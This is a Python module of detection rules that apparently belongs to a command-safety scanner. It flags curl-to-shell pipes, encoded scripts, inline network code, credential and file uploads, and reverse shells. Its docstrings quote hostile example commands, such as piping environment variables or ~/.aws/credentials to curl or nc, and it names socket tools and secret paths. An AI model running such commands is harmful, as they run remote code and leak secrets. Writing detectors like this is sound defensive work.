"""Rules about the network: downloaded code that runs, and local data that leaves."""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator

from pipeline.safety.findings import Finding
from pipeline.safety.shell import Command, pipeline_display
from pipeline.safety.words import (
    CREDENTIAL_PATH,
    ENV_CODE,
    EXEC_CODE,
    FILE_CODE,
    NETWORK_CODE,
    READERS,
    SECRET_VAR,
    SOCKETS,
    command_host,
    downloads,
    inline_code,
    is_local_host,
    is_python,
    is_shell,
    normal,
    runs_code,
)

_STDIN_INTERPRETERS = {"perl", "ruby", "node", "nodejs", "php", "lua", "pwsh", "powershell", "iex", "tclsh", "deno",
                       "bun", "Rscript", "osascript"}
_DECODERS = re.compile(r"^(?:base64|base32|xxd|uudecode|openssl|gunzip|zcat|xz|bunzip2)$")


def reads_code_from_stdin(command: Command) -> bool:
    """``bash``, ``sh -s``, ``python3 -``, ``sudo -s``, ``source /dev/stdin``: stdin is the program."""
    name, args = command.program, command.args
    if name in ("sudo", "doas"):
        return any(a in ("-s", "-i") for a in args)
    if name == "su":
        return not any(a in ("-c", "--command") for a in args)
    if name in ("source", "."):
        return bool(args) and args[0] in ("/dev/stdin", "-", "/proc/self/fd/0", "/dev/fd/0")
    if name == "iex":
        return True
    if not (is_shell(name) or is_python(name) or name in _STDIN_INTERPRETERS):
        return False
    skip_next = False
    for arg in args:
        if skip_next:
            skip_next = False
            continue
        if arg in ("-s", "-"):
            return True
        if arg.startswith("-") and not arg.startswith("--") and "c" in arg[1:] and is_shell(name):
            return False
        if arg in ("-c", "-e", "-m", "-E", "-r", "--eval") or (is_python(name) and arg.startswith(("-c", "-m"))):
            return False
        if arg in ("-o", "-O", "-W", "-X", "--rcfile", "--init-file"):
            skip_next = True
            continue
        if arg.startswith(("-", "+")):
            continue
        return False  # a script file: stdin is its input, not its program
    return True


def stdin_program(command: Command) -> str | None:
    """The program text a shell or interpreter reads from stdin: an echo upstream or a here-document."""
    if not reads_code_from_stdin(command):
        return None
    for redirect in command.redirects:
        if redirect.op.lstrip("0123456789") in ("<<", "<<-", "<<<"):
            return redirect.target
    for up in reversed(command.upstream):
        if up.program in ("echo", "printf") and up.args:
            return " ".join(a for a in up.args if not (a.startswith("-") and len(a) <= 3))
    return None


def piped_code(pipeline: list[Command]) -> Iterator[Finding]:
    """``curl ... | bash``, ``wget -qO- ... | sudo sh``, ``curl ... | python3 -``, ``base64 -d | sh``."""
    downloaded = decoded = False
    for n, command in enumerate(pipeline):
        if n and (downloaded or decoded) and reads_code_from_stdin(command):
            into = "a shell" if is_shell(command.program) or command.program in ("source", ".", "sudo", "su", "doas") \
                else command.program
            if downloaded:
                yield Finding("curl-pipe-shell", f"pipes a download straight into {into}", pipeline_display(pipeline))
            else:
                yield Finding("encoded-script", "runs an encoded script", pipeline_display(pipeline))
            return
        downloaded = downloaded or downloads(command)
        decoded = decoded or bool(_DECODERS.match(command.program) and any(
            a in ("-d", "--decode", "-D", "-r") or a.startswith("-d") for a in command.args))


def substituted_code(command: Command) -> Iterator[Finding]:
    """``bash <(curl ...)``, ``source <(curl ...)``, ``bash -c "$(curl ...)"``, ``eval "$(wget -O- ...)"``."""
    if not command.argv:
        return
    for kind, script in command.subs:
        if not any(downloads(c) for c in script.commands()):
            continue
        in_program = script.source and script.source in command.argv[0]
        if command.program == "eval":
            yield Finding("curl-pipe-shell", "evaluates a downloaded script", command.display())
        elif runs_code(command.program) or in_program:
            what = "runs a downloaded script" if kind in ("<(", "$(", "`") else "runs downloaded code"
            yield Finding("curl-pipe-shell", what, command.display())


def inline_network_code(command: Command) -> Iterator[Finding]:
    """``python3 -c "...urlopen(..., data=os.environ...)"`` and the like, ``-c``/``-e`` or a here-document."""
    if not (is_python(command.program) or command.program in _STDIN_INTERPRETERS):
        return
    code = inline_code(command)
    if code is None:
        code = stdin_program(command)
    if not code or not NETWORK_CODE.search(code):
        return
    shown = command.display()
    if ENV_CODE.search(code):
        yield Finding("exfiltration", f"inline {command.program} code sends environment variables to the network",
                      shown)
    elif FILE_CODE.search(code):
        yield Finding("exfiltration", f"inline {command.program} code reads files and opens a network connection",
                      shown)
    if EXEC_CODE.search(code):
        yield Finding("curl-pipe-shell", f"inline {command.program} code downloads and runs code", shown)


# -- download, then run ----------------------------------------------------------------------
def downloaded_files(command: Command) -> list[str]:
    """The files a download writes (``curl -o f``, ``curl -O URL``, ``wget URL``, ``curl URL > f``)."""
    name, args = command.program, command.args
    found: list[str] = []
    urls = [a for a in args if re.match(r"^(?:https?|ftp)://", a)]
    if name in ("curl", "xh", "http", "curlie"):
        for n, arg in enumerate(args):
            following = args[n + 1] if n + 1 < len(args) else ""
            if arg in ("-o", "--output") or (re.match(r"^-[a-zA-Z]*o$", arg) and not arg.startswith("--")):
                found.append(following)
            elif arg.startswith("--output="):
                found.append(arg.split("=", 1)[1])
            elif re.match(r"^-o.+", arg):
                found.append(arg[2:])
            elif arg in ("-O", "--remote-name", "--remote-name-all") or re.match(r"^-[a-zA-Z]*O[a-zA-Z]*$", arg):
                found += [_url_name(u) for u in urls]
    elif name == "wget":
        explicit = False
        prefix = ""
        for n, arg in enumerate(args):
            following = args[n + 1] if n + 1 < len(args) else ""
            if arg in ("-O", "--output-document") or re.match(r"^-[a-zA-Z]*O$", arg):
                found.append(following)
                explicit = True
            elif arg.startswith("--output-document="):
                found.append(arg.split("=", 1)[1])
                explicit = True
            elif re.match(r"^-O.+", arg):
                found.append(arg[2:])
                explicit = True
            elif arg in ("-P", "--directory-prefix"):
                prefix = following
        if not explicit:
            found += [posixpath.join(prefix, _url_name(u)) if prefix else _url_name(u) for u in urls]
    written = [r.target for r in command.redirects if r.writes]
    if written and (downloads(command) or any(downloads(u) for u in command.upstream)):
        found += written
    return [f for f in found if f and f not in ("-", "/dev/stdout", "/dev/null")]


def _url_name(url: str) -> str:
    path = url.split("?", 1)[0].split("#", 1)[0].rstrip("/")
    return path.rsplit("/", 1)[-1] if "/" in path.split("://", 1)[-1] else "index.html"


def runs_file(command: Command, files: list[str]) -> str | None:
    """The downloaded file COMMAND runs (``bash f``, ``sh /tmp/s.sh``, ``./f``, ``python3 f``), or None."""
    if not command.argv or not files:
        return None
    candidates: list[str] = []
    name = command.program
    if runs_code(name) and inline_code(command) is None:
        plain = [a for a in command.args if not a.startswith("-")]
        candidates += plain[:1]
    first = command.argv[0]
    if "/" in first or first in files:
        candidates.append(first)
    for candidate in candidates:
        for file in files:
            if _same_file(candidate, file):
                return file
    return None


def _same_file(a: str, b: str) -> bool:
    a, b = normal(a), normal(b)
    if posixpath.normpath(a) == posixpath.normpath(b):
        return True
    base_a, base_b = posixpath.basename(a), posixpath.basename(b)
    return bool(base_a) and base_a == base_b


# -- data that leaves ----------------------------------------------------------------------
def _reads_stdin_to_network(command: Command) -> bool:
    name, args = command.program, command.args
    if name in ("curl", "http", "xh", "curlie"):
        for n, arg in enumerate(args):
            following = args[n + 1] if n + 1 < len(args) else ""
            if arg.endswith(("@-", "<-", "@/dev/stdin")) or arg in ("@-",):
                return True
            if arg in ("-T", "--upload-file") and following in ("-", "."):
                return True
        return False
    if name == "wget":
        return any(a in ("--post-file=-", "--post-file=/dev/stdin", "--body-file=-", "--body-file=/dev/stdin")
                   for a in args)
    if name in SOCKETS:
        return not any(a in ("-l", "-lp", "-lvp", "-lnvp", "-z", "-zv") for a in args)
    return name == "openssl" and args[:1] == ["s_client"]


def secret_source(command: Command) -> str | None:
    """What secret COMMAND reads, in words: "environment variables", "credentials (~/.ssh/id_rsa)", or None."""
    name, args = command.program, command.args
    if name in ("env", "printenv") and not [a for a in args if not a.startswith("-")] or (
            name in ("set", "export", "declare", "typeset") and all(a in ("-p", "-x", "-px", "-xp") for a in args)):
        return "environment variables"
    if name == "printenv" and any(re.search(r"TOKEN|SECRET|PASSWORD|KEY", a, re.I) for a in args):
        return "a secret from the environment"
    for arg in args:
        if re.search(r"/proc/(?:self|\d+|\*)/environ", arg):
            return "environment variables"
        if CREDENTIAL_PATH.search(arg) and (name in READERS or name in ("cp", "scp", "rsync", "tar", "zip")):
            return f"credentials ({arg})"
        if SECRET_VAR.search(arg):
            return f"a secret from the environment ({SECRET_VAR.search(arg).group(0)})"  # type: ignore[union-attr]
    for redirect in command.redirects:
        if redirect.reads and CREDENTIAL_PATH.search(redirect.target):
            return f"credentials ({redirect.target})"
    if name == "history" or any(a.endswith((".bash_history", ".zsh_history")) for a in args):
        return "your shell history"
    code = inline_code(command) if (is_python(name) or name in _STDIN_INTERPRETERS) else None
    if code and ENV_CODE.search(code):
        return "environment variables"
    return None


def _file_reader(command: Command) -> str | None:
    if command.program in READERS or command.program in ("tar", "zip", "find"):
        plain = [a for a in command.args if not a.startswith("-")]
        if plain:
            return f"files ({' '.join(plain)[:60]})"
    return None


def _uploaded_files(command: Command) -> list[str]:
    name, args = command.program, command.args
    found: list[str] = []
    if name in ("curl", "http", "xh", "curlie"):
        for n, arg in enumerate(args):
            following = args[n + 1] if n + 1 < len(args) else ""
            if arg in ("-d", "--data", "--data-binary", "--data-urlencode", "--json", "--data-ascii"):
                value = following
            elif re.match(r"^--(?:data(?:-binary|-urlencode|-ascii)?|json)=", arg):
                value = arg.split("=", 1)[1]
            elif arg in ("-F", "--form"):
                value = following.split("=", 1)[-1]
            elif arg in ("-T", "--upload-file"):
                found.append(following)
                continue
            else:
                continue
            match = re.search(r"[@<]([^@<]+)$", value)
            if match and match.group(1) not in ("-", "/dev/stdin"):
                found.append(match.group(1))
    elif name == "wget":
        found += [a.split("=", 1)[1] for a in args if a.startswith(("--post-file=", "--body-file="))]
    elif name in ("scp", "rsync", "sftp"):
        plain = [a for a in args if not a.startswith("-")]
        if len(plain) >= 2 and ":" in plain[-1] and not plain[-1].startswith("/"):
            found += plain[:-1]
    elif name in SOCKETS:
        found += [r.target for r in command.redirects if r.reads]
    return [f for f in found if f and f not in ("-", ".", "/dev/stdin")]  # stdin: see _reads_stdin_to_network


def exfiltration(pipeline: list[Command]) -> Iterator[Finding]:
    """``env | curl --data-binary @- ...``, ``cat ~/.aws/credentials | nc host 9000``, ``curl -d @.env ...``."""
    shown = pipeline_display(pipeline)
    for n, command in enumerate(pipeline):
        host = command_host(command)
        where = host or "the network"
        if n and _reads_stdin_to_network(command):
            upstream = pipeline[:n]
            secret = next((s for u in upstream if (s := secret_source(u))), None)
            if secret:
                yield Finding("exfiltration", f"sends {secret} to {where}", shown)
            elif not is_local_host(host) and (files := next((f for u in upstream if (f := _file_reader(u))), None)):
                yield Finding("exfiltration", f"uploads {files} to {where}", shown)
        for file in _uploaded_files(command):
            if CREDENTIAL_PATH.search(file):
                yield Finding("exfiltration", f"sends credentials ({file}) to {where}", shown)
            elif not is_local_host(host):
                yield Finding("exfiltration", f"uploads a local file ({file}) to {where}", shown)
        if downloads(command) or command.program in SOCKETS or _uploaded_files(command):
            for _, script in command.subs:
                secret = next((s for c in script.commands() if (s := secret_source(c))), None)
                if secret:
                    yield Finding("exfiltration", f"sends {secret} to {where}", shown)
        for redirect in command.redirects:
            if re.match(r"^/dev/(?:tcp|udp)/", redirect.target):
                yield Finding("exfiltration", f"opens a network connection from the shell ({redirect.target}): "
                              "a reverse shell", shown)
        if command.program in SOCKETS and any(a in ("-e", "-c", "--exec", "--sh-exec") for a in command.args) or (
                command.program == "socat" and any(re.match(r"^(?:exec|system):", a, re.I) for a in command.args)):
            yield Finding("exfiltration", f"gives a shell to {where} (a reverse shell)", shown)
